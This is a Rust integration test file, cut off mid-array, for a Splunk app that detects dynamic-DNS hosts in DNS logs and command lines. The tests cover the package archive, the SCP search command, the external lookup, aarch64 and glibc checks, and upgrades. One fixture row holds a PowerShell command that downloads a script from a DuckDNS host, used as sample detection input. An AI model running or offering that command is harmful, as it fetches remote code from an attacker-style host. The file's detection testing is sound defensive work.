//! The packaged Splunk app, installed and run as splunkd runs it.
//!
//! `scripts/package.sh` writes `dist/dynamicdns-<version>.tgz`. These tests
//! check the archive (top folder, modes, owner, gzip header), unpack it into
//! a scratch `$SPLUNK_HOME/etc/apps/`, and then
//!
//! - run the command exactly as `commands.conf` declares it — the program
//!   `filename` looked up in `<app>/linux_x86_64/bin/` then `<app>/bin/`,
//!   with `command.arg.<N>` as its arguments, in a dispatch folder as its
//!   working directory — through a lock-step SCP v2 conversation (getinfo,
//!   then execute requests with DNS rows), as splunkd does;
//! - run the external lookup exactly as `transforms.conf` declares it
//!   (`external_cmd` in `<app>/bin/`, CSV with the `fields_list` header on
//!   stdin);
//! - check that the installed app's `lookups/` (local zones, allowlist) are
//!   found by the binary behind the launcher;
//! - run the aarch64 binary the same way under qemu when the project's
//!   scripts have set qemu up (target/tools/qemu-aarch64/run);
//! - run the launcher where no binary fits, and read its protocol error;
//! - upgrade: install an older version, add rows to every file users edit
//!   (and a `local/` setting), install the package over it as Splunk does
//!   (unpacked over the app folder: every file the package contains is
//!   replaced, every other file stays), and check that every user file is
//!   unchanged, every packaged file is the new one, and the package ships
//!   none of the users' files.
//!
//! Without a package the tests print a note and pass, unless
//! `DYNAMICDNS_REQUIRE_PACKAGE` is set (CI sets it after packaging).
//! `DYNAMICDNS_REQUIRE_AARCH64=1` also requires the aarch64 binary.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::util::conf::{parse_conf, Conf};
use crate::util::driver::Driver;
use crate::util::root;
use crate::util::scp::{self, getinfo_reply};

const APP: &str = "dynamicdns";

/// Lookup files users create and edit, never shipped: local zones,
/// allowlist, first-seen baseline, and the pre-0.2 names of the first two
/// (0.1.0 shipped those, header only).
const USER_LOOKUPS: &[&str] = &[
    "dynamicdns_local_zones.csv",
    "dynamicdns_allowlist.csv",
    "dynamicdns_first_seen.csv",
    "dynamic_dns_providers_local.csv",
    "dynamic_dns_allowlist.csv",
];
const TIMEOUT: Duration = Duration::from_secs(60);

/// The package, or `None` (after a printed note) when there is none and
/// none is required.
fn package() -> Option<PathBuf> {
    let tgz = root().join(format!("dist/{APP}-{}.tgz", env!("CARGO_PKG_VERSION")));
    if tgz.is_file() {
        return Some(tgz);
    }
    if std::env::var_os("DYNAMICDNS_REQUIRE_PACKAGE").is_some() {
        panic!(
            "{} is missing (DYNAMICDNS_REQUIRE_PACKAGE is set): run scripts/package.sh",
            tgz.display()
        );
    }
    // Written past the test harness's output capture, once, so that a
    // skipped run says so in the log.
    static NOTE: std::sync::Once = std::sync::Once::new();
    NOTE.call_once(|| {
        let _ = writeln!(
            std::io::stderr().lock(),
            "note: {} not found; skipping the app install tests (run scripts/package.sh, \
             or set DYNAMICDNS_REQUIRE_PACKAGE=1 to make this a failure)",
            tgz.display()
        );
    });
    None
}

fn require_aarch64() -> bool {
    std::env::var("DYNAMICDNS_REQUIRE_AARCH64").is_ok_and(|v| v == "1")
}

// ---------------------------------------------------------------------------
// The archive

/// One entry of a tar archive.
#[derive(Debug)]
struct Entry {
    name: String,
    mode: u32,
    uid: u64,
    gid: u64,
    mtime: u64,
    kind: u8,
}

fn octal(field: &[u8]) -> u64 {
    let s = std::str::from_utf8(field).unwrap().trim_matches(|c: char| c == '\0' || c == ' ');
    if s.is_empty() {
        0
    } else {
        u64::from_str_radix(s, 8).unwrap_or_else(|_| panic!("bad octal field {s:?}"))
    }
}

/// Lists a gzip-compressed tar archive (ustar/GNU headers, GNU long names).
fn list_tgz(tgz: &Path) -> Vec<Entry> {
    let mut data = Vec::new();
    flate2::read::GzDecoder::new(std::fs::File::open(tgz).unwrap())
        .read_to_end(&mut data)
        .unwrap();
    let mut entries = Vec::new();
    let mut pos = 0;
    let mut long_name: Option<String> = None;
    while pos + 512 <= data.len() {
        let h = &data[pos..pos + 512];
        if h.iter().all(|&b| b == 0) {
            break;
        }
        let cstr = |f: &[u8]| {
            String::from_utf8(f.iter().take_while(|&&b| b != 0).copied().collect()).unwrap()
        };
        let size = octal(&h[124..136]) as usize;
        let kind = h[156];
        let body = pos + 512;
        pos = body + size.div_ceil(512) * 512;
        if kind == b'L' {
            long_name = Some(cstr(&data[body..body + size]));
            continue;
        }
        let mut name = cstr(&h[0..100]);
        if &h[257..262] == b"ustar" && h[345] != 0 && &h[257..263] == b"ustar\0" {
            name = format!("{}/{}", cstr(&h[345..500]), name);
        }
        entries.push(Entry {
            name: long_name.take().unwrap_or(name),
            mode: octal(&h[100..108]) as u32,
            uid: octal(&h[108..116]),
            gid: octal(&h[116..124]),
            mtime: octal(&h[136..148]),
            kind,
        });
    }
    entries
}

#[test]
fn the_archive_is_rooted_at_the_app_id_with_splunk_modes() {
    let Some(tgz) = package() else { return };
    let gz = std::fs::read(&tgz).unwrap();
    assert_eq!(&gz[..3], &[0x1f, 0x8b, 8], "gzip");
    assert_eq!(gz[3] & 0x08, 0, "gzip -n: no file name in the header");
    assert_eq!(&gz[4..8], &[0, 0, 0, 0], "gzip -n: no time stamp in the header");
    let entries = list_tgz(&tgz);
    assert!(!entries.is_empty());
    let mut problems = Vec::new();
    let mtime = entries[0].mtime;
    for e in &entries {
        let parts: Vec<&str> = e.name.trim_end_matches('/').split('/').collect();
        if parts[0] != APP {
            problems.push(format!("{}: not under {APP}/", e.name));
        }
        if parts.iter().any(|p| p.starts_with('.') || p.is_empty()) {
            problems.push(format!("{}: dotfile or ./ path", e.name));
        }
        if (e.uid, e.gid) != (0, 0) {
            problems.push(format!("{}: owner {}:{}", e.name, e.uid, e.gid));
        }
        let is_dir = e.kind == b'5';
        if !is_dir && e.kind != b'0' {
            problems.push(format!("{}: type {:?}", e.name, e.kind as char));
        }
        let want = if is_dir || parts.get(1) == Some(&"bin") { 0o755 } else { 0o644 };
        if e.mode & 0o7777 != want {
            problems.push(format!("{}: mode {:o}, want {want:o}", e.name, e.mode & 0o7777));
        }
        if e.mtime != mtime {
            problems.push(format!("{}: mtime differs", e.name));
        }
    }
    let names: Vec<&str> = entries.iter().map(|e| e.name.trim_end_matches('/')).collect();
    let mut sorted = names.clone();
    sorted.sort_by(|a, b| a.split('/').cmp(b.split('/')));
    if names != sorted {
        problems.push("entries are not sorted by name".to_string());
    }
    for f in [
        "app.manifest",
        "README.md",
        "LICENSE",
        "bin/dynamicdns.sh",
        "bin/x86_64/dynamicdns",
        "default/app.conf",
        "default/commands.conf",
        "default/transforms.conf",
        "default/analyticstories.conf",
        "default/server.conf",
        "default/data/ui/nav/default.xml",
        "default/data/ui/views/dynamicdns_overview.xml",
        "default/data/ui/views/dynamicdns_check.xml",
        "default/data/ui/views/dynamicdns_health.xml",
        "static/appIcon.png",
        "static/appIcon_2x.png",
        "static/appIconAlt.png",
        "static/appIconAlt_2x.png",
        "lookups/dynamic_dns_providers.csv",
        "metadata/default.meta",
    ] {
        if !names.contains(&format!("{APP}/{f}").as_str()) {
            problems.push(format!("{APP}/{f} missing"));
        }
    }
    for f in USER_LOOKUPS {
        if names.contains(&format!("{APP}/lookups/{f}").as_str()) {
            problems.push(format!(
                "{APP}/lookups/{f} is a file users edit: an upgrade would overwrite it"
            ));
        }
    }
    if require_aarch64() && !names.contains(&format!("{APP}/bin/aarch64/dynamicdns").as_str()) {
        problems.push("bin/aarch64/dynamicdns missing (DYNAMICDNS_REQUIRE_AARCH64=1)".to_string());
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

// ---------------------------------------------------------------------------
// A scratch Splunk installation

/// `$SPLUNK_HOME` in a scratch folder, removed on drop.
struct SplunkHome {
    home: PathBuf,
}

impl SplunkHome {
    /// Installs the package into `$SPLUNK_HOME/etc/apps/` as `splunk
    /// install app` does: unpack the archive there.
    fn install(tgz: &Path, test: &str) -> SplunkHome {
        let home = std::env::temp_dir()
            .join(format!("dynamicdns-app-install-{}-{test}", std::process::id()));
        let _ = std::fs::remove_dir_all(&home);
        let apps = home.join("etc/apps");
        std::fs::create_dir_all(&apps).unwrap();
        std::fs::create_dir_all(home.join("var/run/splunk/dispatch/1700000000.7")).unwrap();
        let status = Command::new("tar")
            .arg("-xzf")
            .arg(tgz)
            .arg("-C")
            .arg(&apps)
            .status()
            .expect("tar runs");
        assert!(status.success(), "tar -xzf {}", tgz.display());
        SplunkHome { home }
    }

    fn app(&self) -> PathBuf {
        self.home.join("etc/apps").join(APP)
    }

    fn dispatch_dir(&self) -> PathBuf {
        self.home.join("var/run/splunk/dispatch/1700000000.7")
    }

    fn conf(&self, file: &str) -> Conf {
        let text = std::fs::read_to_string(self.app().join("default").join(file)).unwrap();
        parse_conf(file, &text).unwrap_or_else(|e| panic!("{e}"))
    }

    /// The command line splunkd runs for `| dynamicdns`.
    fn command_argv(&self) -> Vec<String> {
        self.command_argv_of(APP)
    }

    /// The command line splunkd runs for the command of `stanza` in
    /// commands.conf: `filename` from `<app>/linux_x86_64/bin/` or else
    /// `<app>/bin/`, then `command.arg.<N>` in order of N.
    fn command_argv_of(&self, stanza: &str) -> Vec<String> {
        let conf = self.conf("commands.conf");
        let stanza = conf.req(stanza);
        assert_eq!(stanza.req("chunked"), "true");
        let filename = stanza.req("filename");
        let program = [self.app().join("linux_x86_64/bin"), self.app().join("bin")]
            .iter()
            .map(|d| d.join(filename))
            .find(|p| p.is_file())
            .unwrap_or_else(|| {
                panic!("commands.conf filename {filename} is not in the app's bin/")
            });
        let mut args: Vec<(u32, String)> = stanza
            .keys
            .iter()
            .filter_map(|(k, v, _)| {
                k.strip_prefix("command.arg.").map(|n| (n.parse().unwrap(), v.clone()))
            })
            .collect();
        args.sort();
        std::iter::once(program.display().to_string())
            .chain(args.into_iter().map(|(_, v)| v))
            .collect()
    }

    /// The external lookup's command line and fields, from transforms.conf.
    fn lookup_argv(&self, stanza: &str) -> (Vec<String>, Vec<String>) {
        let conf = self.conf("transforms.conf");
        let s = conf.req(stanza);
        assert_eq!(s.req("external_type"), "executable");
        let mut words = s.req("external_cmd").split_whitespace().map(str::to_string);
        let program = self.app().join("bin").join(words.next().unwrap());
        assert!(program.is_file(), "external_cmd program {} exists", program.display());
        let argv = std::iter::once(program.display().to_string()).chain(words).collect();
        let fields = s.req("fields_list").split(',').map(|f| f.trim().to_string()).collect();
        (argv, fields)
    }

    /// `argv` as splunkd starts search commands: in the dispatch folder,
    /// with SPLUNK_HOME set and Splunk's library path.
    fn command(&self, argv: &[String]) -> Command {
        let mut cmd = Command::new(&argv[0]);
        cmd.args(&argv[1..])
            .current_dir(self.dispatch_dir())
            .env("SPLUNK_HOME", &self.home)
            .env("LD_LIBRARY_PATH", self.home.join("lib"));
        cmd
    }

    /// The shared lock-step SCP driver over `argv`, started by [`Self::command`].
    fn driver(&self, argv: &[String]) -> Driver {
        Driver::spawn_command(self.command(argv), TIMEOUT)
    }

    /// A process started by [`Self::command`] with piped stdio.
    fn spawn(&self, argv: &[String]) -> Child {
        self.command(argv)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap_or_else(|e| panic!("cannot run {argv:?}: {e}"))
    }
}

impl Drop for SplunkHome {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.home);
    }
}

// ---------------------------------------------------------------------------
// SCP v2, lock-step, as splunkd speaks it (the shared driver of tests/util)

/// A getinfo request for `| dynamicdns <args>` run from `dispatch_dir`.
fn getinfo(args: &[&str], dispatch_dir: &Path) -> Vec<u8> {
    let mut meta = scp::getinfo_metadata(args);
    meta["searchinfo"]["dispatch_dir"] = json!(dispatch_dir.display().to_string());
    scp::chunk_json(&meta, b"")
}

fn wait(child: &mut Child) -> ExitStatus {
    let start = Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return status;
        }
        if start.elapsed() > TIMEOUT {
            let _ = child.kill();
            panic!("the command did not exit");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn stderr_of(child: &mut Child) -> String {
    let mut s = String::new();
    if let Some(mut e) = child.stderr.take() {
        let _ = e.read_to_string(&mut s);
    }
    s
}

/// One SCP session: getinfo, then one execute request per body (the last
/// one `finished`), each reply read before the next request is written;
/// then stdin is closed and the process must exit 0 with nothing more on
/// stdout. Returns the execute replies' bodies, parsed as CSV.
fn scp_session(
    home: &SplunkHome,
    argv: &[String],
    args: &[&str],
    bodies: &[&[u8]],
) -> Vec<Vec<BTreeMap<String, String>>> {
    let mut d = home.driver(argv);
    let reply = d.request(&getinfo(args, &home.dispatch_dir()));
    assert_eq!(reply.metadata_raw, getinfo_reply(args), "getinfo reply");
    assert!(reply.body.is_empty());
    let mut out = Vec::new();
    for (i, body) in bodies.iter().enumerate() {
        let finished = i + 1 == bodies.len();
        let reply = d.request(&scp::execute(finished, body));
        assert_eq!(reply.metadata.get("finished"), Some(&json!(finished)), "execute reply");
        assert!(reply.metadata.get("error").is_none(), "execute reply {:?}", reply.metadata);
        out.push(parse_csv(&reply.body));
    }
    let fin = d.finish();
    assert!(fin.status.success(), "exit {}; stderr: {}", fin.status, fin.stderr);
    out
}

fn parse_csv(body: &[u8]) -> Vec<BTreeMap<String, String>> {
    let mut r = csv::ReaderBuilder::new().from_reader(body);
    let headers = r.headers().unwrap().clone();
    r.records()
        .map(|rec| {
            let rec = rec.unwrap();
            headers.iter().zip(rec.iter()).map(|(h, v)| (h.to_string(), v.to_string())).collect()
        })
        .collect()
}

/// splunkd-style DNS rows: `__mv_` twin for the multivalue answer (CNAME
/// chain), CRLF-free, quoted where needed.
const DNS_ROWS: &[u8] = b"_time,src,query,answer,__mv_answer\r\n\
1700000000,10.1.4.22,update7.duckdns.org,203.0.113.45,\r\n\
1700000001,10.1.7.3,www.example.com,93.184.216.34,\r\n\
1700000002,10.1.9.8,cdn.example.net,\"edge.example.net\nhome.ddns.net\",$edge.example.net$;$home.ddns.net$\r\n\
1700000003,10.1.9.9,ok.duckdns.org,198.51.100.1,\r\n\
1700000004,10.1.9.9,a.corp-dyn.example,198.51.100.2,\r\n\
1700000005,10.1.9.9,duckdns.org,99.79.143.35,\r\n";

/// The app's local files, as an admin would edit them.
fn tune_lookups(home: &SplunkHome) {
    let lookups = home.app().join("lookups");
    std::fs::write(
        lookups.join("dynamicdns_allowlist.csv"),
        "host,comment\nok.duckdns.org,our VPN\n",
    )
    .unwrap();
    std::fs::write(
        lookups.join("dynamicdns_local_zones.csv"),
        "zone,provider,category,tier,sources\ncorp-dyn.example,Corp DDNS,ddns,core,local\n",
    )
    .unwrap();
}

fn check_dns_verdicts(rows: &[BTreeMap<String, String>]) {
    let verdicts: Vec<(&str, &str, &str, &str)> = rows
        .iter()
        .map(|r| {
            (
                r["query"].as_str(),
                r["isDynDNS"].as_str(),
                r["provider"].as_str(),
                r["dyndns_zone"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        verdicts,
        [
            ("update7.duckdns.org", "True", "DuckDNS", "duckdns.org"),
            ("www.example.com", "False", "", ""),
            ("cdn.example.net", "True", "No-IP", "ddns.net"),
            ("ok.duckdns.org", "False", "", ""),
            ("a.corp-dyn.example", "True", "Corp DDNS", "corp-dyn.example"),
            ("duckdns.org", "False", "", ""),
        ]
    );
    // Input fields come back unchanged.
    assert_eq!(rows[2]["answer"], "edge.example.net\nhome.ddns.net");
    assert_eq!(rows[0]["src"], "10.1.4.22");
}

#[test]
fn the_command_runs_as_commands_conf_declares_it() {
    let Some(tgz) = package() else { return };
    let home = SplunkHome::install(&tgz, "scp");
    tune_lookups(&home);
    let argv = home.command_argv();
    assert!(argv[0].ends_with("/bin/dynamicdns.sh"), "{argv:?}");
    assert_eq!(argv[1..], ["scp"]);
    let header_only: &[u8] = b"_time,src,query,answer,__mv_answer\r\n";
    let replies =
        scp_session(&home, &argv, &["field=query,answer"], &[DNS_ROWS, header_only, b""]);
    check_dns_verdicts(&replies[0]);
    assert!(replies[1].is_empty() && replies[2].is_empty());
    // mode=text over free text, tier=core.
    let text: &[u8] =
        b"_time,CommandLine\n1,\"powershell iwr http://x.duckdns.org/a.ps1\"\n2,notepad.exe\n";
    let replies =
        scp_session(&home, &argv, &["field=CommandLine", "mode=text", "tier=core"], &[text]);
    let flags: Vec<&str> = replies[0].iter().map(|r| r["isDynDNS"].as_str()).collect();
    assert_eq!(flags, ["True", "False"]);
}

/// `| dynamicdnsinfo` as commands.conf declares it, through the launcher,
/// as splunkd would run it on the search head and (with
/// `distributed=true`) on an indexer: a generating command's getinfo, an
/// execute request without records answered with the one row, EOF, exit 0
/// with nothing on stderr. The row names the installed app and the zone
/// counts of the installed lookup.
#[test]
fn the_info_command_runs_as_commands_conf_declares_it() {
    let Some(tgz) = package() else { return };
    let home = SplunkHome::install(&tgz, "info");
    tune_lookups(&home);
    let argv = home.command_argv_of("dynamicdnsinfo");
    assert!(argv[0].ends_with("/bin/dynamicdns.sh"), "{argv:?}");
    assert_eq!(argv[1..], ["info"]);
    let installed = |file: &str| {
        let mut r = csv::Reader::from_path(home.app().join("lookups").join(file)).unwrap();
        let h = r.headers().unwrap().clone();
        let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
        (h, rows)
    };
    let (h, zones) = installed("dynamic_dns_providers.csv");
    let count = |col: &str, value: &str| {
        let c = h.iter().position(|x| x == col).unwrap();
        zones.iter().filter(|r| &r[c] == value).count().to_string()
    };
    let (_, hosts) = installed("dynamic_dns_service_hosts.csv");
    let app_dir = std::fs::canonicalize(home.app()).unwrap().display().to_string();
    for distributed in [true, false] {
        let mut cmd = home.command(&argv);
        cmd.env("SPLUNK_SERVER_NAME", "Splunkd");
        let mut d = Driver::spawn_command(cmd, TIMEOUT);
        let mut meta =
            scp::getinfo_metadata(if distributed { &["distributed=true"] } else { &[] });
        meta["searchinfo"]["command"] = json!("dynamicdnsinfo");
        meta["searchinfo"]["dispatch_dir"] = json!(home.dispatch_dir().display().to_string());
        let reply = d.request(&scp::chunk_json(&meta, b""));
        let kind = if distributed { "streaming" } else { "stateful" };
        assert_eq!(
            String::from_utf8_lossy(&reply.metadata_raw),
            format!(r#"{{"generating":true,"type":"{kind}"}}"#)
        );
        let reply = d.request(&scp::execute(true, b""));
        assert_eq!(reply.metadata_raw, br#"{"finished":true}"#);
        let rows = parse_csv(&reply.body);
        assert_eq!(rows.len(), 1);
        let row = &rows[0];
        let want = [
            ("server", "Splunkd".to_string()),
            ("version", env!("CARGO_PKG_VERSION").to_string()),
            ("arch", "x86_64".to_string()),
            ("app_dir", app_dir.clone()),
            ("zones", zones.len().to_string()),
            ("zones_core", count("tier", "core")),
            ("zones_extended", count("tier", "extended")),
            ("zones_ddns", count("category", "ddns")),
            ("zones_vendor_ddns", count("category", "vendor-ddns")),
            ("zones_vpn_vendor", count("category", "vpn-vendor")),
            ("service_hosts", hosts.len().to_string()),
            ("local_zones", "1".to_string()),
            ("allowlist", "1".to_string()),
            (
                "local_files",
                "dynamicdns_local_zones.csv: 1 row\ndynamicdns_allowlist.csv: 1 row".to_string(),
            ),
            ("problems", String::new()),
            ("problem_count", "0".to_string()),
            ("status", "ok".to_string()),
        ];
        for (k, v) in want {
            assert_eq!(row[k], v, "{k} (distributed={distributed})");
        }
        // The package's build says which commit it was built from
        // (scripts/package.sh; `dev` only outside a git checkout).
        let build = &row["build"];
        let hex = build.strip_suffix("-dirty").unwrap_or(build);
        assert!(
            (hex.len() == 12 && hex.bytes().all(|b| b.is_ascii_hexdigit()))
                || (build == "dev" && !root().join(".git").exists()),
            "build {build:?}"
        );
        let fin = d.finish();
        assert!(fin.status.success(), "exit {}; stderr: {}", fin.status, fin.stderr);
        assert_eq!(fin.stderr, "", "stderr stays quiet");
    }
}

/// Real splunkd bytes through the installed launcher: the countmatches
/// recording (text with 48 embedded newlines, unicode) and sum.map (50,000
/// records), each reply checked field by field as in tests/recordings.rs.
#[test]
fn the_installed_command_replays_real_splunkd_recordings() {
    let Some(tgz) = package() else { return };
    let home = SplunkHome::install(&tgz, "recordings");
    let argv = home.command_argv();
    let spawn = || home.driver(&argv);
    let chunks = scp::split_chunks(&scp::recording("countmatches.input.gz"));
    let ex = scp::replay_through(
        spawn(),
        "countmatches (installed)",
        &chunks,
        &["field=text", "mode=text"],
        &["text"],
        None,
    );
    assert_eq!(ex.len(), 1);
    let chunks = scp::split_chunks(&scp::recording("sum.map.input.gz"));
    let ex = scp::replay_through(
        spawn(),
        "sum.map (installed)",
        &chunks,
        &["field=host"],
        &["host"],
        Some(crate::util::oracle::Oracle::shared()),
    );
    assert_eq!(ex[0].output.spans.len(), 50_001);
}

#[test]
fn the_external_lookup_runs_as_transforms_conf_declares_it() {
    let Some(tgz) = package() else { return };
    let home = SplunkHome::install(&tgz, "lookup");
    tune_lookups(&home);
    let (argv, fields) = home.lookup_argv("dynamicdns");
    let outputs = ["isDynDNS", "provider", "dyndns_zone", "dyndns_category", "dyndns_tier"];
    assert_eq!(fields[0], "query");
    assert_eq!(fields[1..], outputs);
    let mut input = fields.join(",") + "\n";
    for q in [
        "update7.duckdns.org",
        "www.example.com",
        "ok.duckdns.org",
        "a.corp-dyn.example",
        "\"q,uoted\"",
    ] {
        input.push_str(&format!("{q},,,,,\n"));
    }
    // A reverse request (only an output set): answered with query=*.
    input.push_str(",True,,,,\n");
    let mut child = home.spawn(&argv);
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || stdin.write_all(input.as_bytes()));
    let mut out = String::new();
    child.stdout.take().unwrap().read_to_string(&mut out).unwrap();
    writer.join().unwrap().unwrap();
    let status = wait(&mut child);
    let stderr = stderr_of(&mut child);
    assert!(status.success(), "exit {status}; stderr: {stderr}");
    assert_eq!(
        out,
        "query,isDynDNS,provider,dyndns_zone,dyndns_category,dyndns_tier\n\
         update7.duckdns.org,True,DuckDNS,duckdns.org,ddns,core\n\
         www.example.com,False,,,,\n\
         ok.duckdns.org,False,,,,\n\
         a.corp-dyn.example,True,Corp DDNS,corp-dyn.example,ddns,core\n\
         \"q,uoted\",False,,,,\n\
         *,True,,,,\n"
    );
}

/// The qemu runner the project's scripts set up, if any.
fn qemu_aarch64() -> Option<PathBuf> {
    let tools = std::env::var_os("DYNAMICDNS_TOOLS")
        .map(PathBuf::from)
        .unwrap_or_else(|| root().join("target/tools"));
    let run = tools.join("qemu-aarch64/run");
    run.is_file().then_some(run)
}

#[test]
fn the_aarch64_binary_is_arm_and_runs_the_same_session() {
    let Some(tgz) = package() else { return };
    let home = SplunkHome::install(&tgz, "aarch64");
    let bin = home.app().join("bin/aarch64/dynamicdns");
    if !bin.is_file() {
        assert!(
            !require_aarch64(),
            "bin/aarch64/dynamicdns missing (DYNAMICDNS_REQUIRE_AARCH64=1)"
        );
        eprintln!("note: the package has no aarch64 binary");
        return;
    }
    let elf = std::fs::read(&bin).unwrap();
    assert_eq!(&elf[..4], b"\x7fELF");
    assert_eq!(elf[4], 2, "64-bit");
    assert_eq!(u16::from_le_bytes([elf[18], elf[19]]), 183, "e_machine EM_AARCH64");
    let Some(qemu) = qemu_aarch64() else {
        eprintln!("note: no qemu-aarch64 runner (scripts/package.sh sets one up); not running the aarch64 binary");
        return;
    };
    tune_lookups(&home);
    // As the launcher would on an ARM host: bin/aarch64/dynamicdns scp.
    let argv = [qemu.display().to_string(), bin.display().to_string(), "scp".to_string()];
    let replies = scp_session(&home, &argv, &["field=query,answer"], &[DNS_ROWS]);
    check_dns_verdicts(&replies[0]);
    // The health report says so.
    let out = home
        .command(&[argv[0].clone(), argv[1].clone(), "info".into(), "--text".into()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("\narch: aarch64\n") && text.contains("\nstatus: ok\n"), "{text}");
}

#[test]
fn the_launcher_reports_a_missing_platform_binary() {
    let Some(tgz) = package() else { return };
    let home = SplunkHome::install(&tgz, "noarch");
    // An app whose bin/ has only the launcher, as on a platform we do not
    // ship a binary for.
    for arch in ["x86_64", "aarch64"] {
        let _ = std::fs::remove_dir_all(home.app().join("bin").join(arch));
    }
    let argv = home.command_argv();
    let mut d = home.driver(&argv);
    let reply = d.request(&getinfo(&[], &home.dispatch_dir()));
    assert!(reply.body.is_empty());
    let meta = Value::Object(reply.metadata);
    let error = meta["error"].as_str().expect("error reply");
    assert!(error.contains("no binary for this platform"), "{error}");
    assert_eq!(meta["finished"], json!(true));
    assert_eq!(meta["inspector"]["messages"][0][0], json!("ERROR"));
    let fin = d.finish();
    assert_eq!(fin.status.code(), Some(1));
    assert!(fin.stderr.contains("no binary for this platform"));

    // The external lookup fails with the message on stderr.
    let (argv, _) = home.lookup_argv("dynamicdns");
    let out = Command::new(&argv[0]).args(&argv[1..]).stdin(Stdio::null()).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(out.stdout.is_empty());
    assert!(String::from_utf8_lossy(&out.stderr).contains("no binary for this platform"));
}

/// `x.y[.z]` as numbers, for comparing symbol versions.
fn version_of(v: &str) -> Vec<u32> {
    v.split('.').map(|p| p.parse().unwrap()).collect()
}

#[test]
fn the_binaries_need_at_most_glibc_2_17() {
    let Some(tgz) = package() else { return };
    let home = SplunkHome::install(&tgz, "glibc");
    for arch in ["x86_64", "aarch64"] {
        let bin = home.app().join("bin").join(arch).join("dynamicdns");
        if !bin.is_file() {
            continue;
        }
        let out =
            Command::new("objdump").arg("-T").arg(&bin).output().expect("objdump (binutils) runs");
        assert!(out.status.success(), "objdump -T {}", bin.display());
        let text = String::from_utf8_lossy(&out.stdout);
        let max = text
            .split(|c: char| c.is_whitespace() || c == '(' || c == ')')
            .filter_map(|w| w.strip_prefix("GLIBC_"))
            .filter(|v| !v.is_empty() && v.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
            .map(version_of)
            .max()
            .expect("the binary uses versioned glibc symbols");
        assert!(max <= version_of("2.17"), "bin/{arch}/dynamicdns needs GLIBC_{max:?} > 2.17");
        eprintln!("bin/{arch}/dynamicdns: highest glibc symbol version {max:?}");
    }
}

// ---------------------------------------------------------------------------
// Upgrades

/// A scratch folder, removed on drop.
struct Scratch(PathBuf);

impl Scratch {
    fn new(name: &str) -> Scratch {
        let dir = std::env::temp_dir().join(format!("dynamicdns-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        Scratch(dir)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn tar(args: &[&std::ffi::OsStr]) {
    let status = Command::new("tar").args(args).status().expect("tar runs");
    assert!(status.success(), "tar {args:?}");
}

/// Unpacks `tgz` into `dir`, over whatever is there: each file in the
/// archive replaces the file of the same name, other files stay. This is
/// what installing an app over an installed one does (Splunk Web "Upgrade
/// app", `splunk install app <tgz> -update 1`).
fn unpack_over(tgz: &Path, dir: &Path) {
    tar(&["-xzf".as_ref(), tgz.as_os_str(), "-C".as_ref(), dir.as_os_str()]);
}

/// Every regular file under `dir`, as paths relative to it.
fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let path = e.unwrap().path();
            if path.is_dir() {
                todo.push(path);
            } else {
                out.push(path.strip_prefix(dir).unwrap().to_path_buf());
            }
        }
    }
    out.sort();
    out
}

/// Version A, as 0.1.0 shipped it: this package without the dashboards,
/// icons and analytic story, an older build number, and the two files users
/// edit shipped with their header only under their pre-0.2 names.
fn old_package(tgz: &Path, scratch: &Scratch) -> PathBuf {
    let stage = scratch.0.join("stage");
    std::fs::create_dir_all(&stage).unwrap();
    unpack_over(tgz, &stage);
    let app = stage.join(APP);
    for gone in ["default/data", "static"] {
        std::fs::remove_dir_all(app.join(gone)).unwrap();
    }
    for gone in ["default/analyticstories.conf", "default/server.conf"] {
        std::fs::remove_file(app.join(gone)).unwrap();
    }
    let app_conf = std::fs::read_to_string(app.join("default/app.conf")).unwrap();
    let build = app_conf.lines().find(|l| l.starts_with("build = ")).expect("[install] build");
    std::fs::write(app.join("default/app.conf"), app_conf.replace(build, "build = 1")).unwrap();
    let lookups = app.join("lookups");
    std::fs::write(
        lookups.join("dynamic_dns_providers_local.csv"),
        "zone,provider,category,tier,sources\n",
    )
    .unwrap();
    std::fs::write(lookups.join("dynamic_dns_allowlist.csv"), "host,comment\n").unwrap();
    let old = scratch.0.join(format!("{APP}-old.tgz"));
    tar(&["-czf".as_ref(), old.as_os_str(), "-C".as_ref(), stage.as_os_str(), APP.as_ref()]);
    old
}

#[test]
fn an_upgrade_keeps_every_file_users_edit() {
    let Some(tgz) = package() else { return };
    let scratch = Scratch::new("upgrade");
    let home = SplunkHome::install(&old_package(&tgz, &scratch), "upgrade");
    let app = home.app();
    assert!(app.join("lookups/dynamic_dns_providers_local.csv").is_file(), "version A installed");

    // The admin's edits: rows in the pre-0.2 files (a 0.1.0 user), in the
    // current files (created in the app, as the README says), the
    // first-seen baseline the scheduled search wrote, and a local/ setting.
    let edits: &[(&str, &str)] = &[
        (
            "lookups/dynamic_dns_providers_local.csv",
            "zone,provider,category,tier,sources\ncorp-dyn.example,Corp DDNS,ddns,core,local\n",
        ),
        ("lookups/dynamic_dns_allowlist.csv", "host,comment\nok.duckdns.org,our VPN\n"),
        (
            "lookups/dynamicdns_local_zones.csv",
            "zone,provider,category,tier,sources\nnew-dyn.example,New DDNS,vendor-ddns,core,local\n",
        ),
        ("lookups/dynamicdns_allowlist.csv", "host,comment\nvpn.corp.duckdns.org,ticket 1234\n"),
        (
            "lookups/dynamicdns_first_seen.csv",
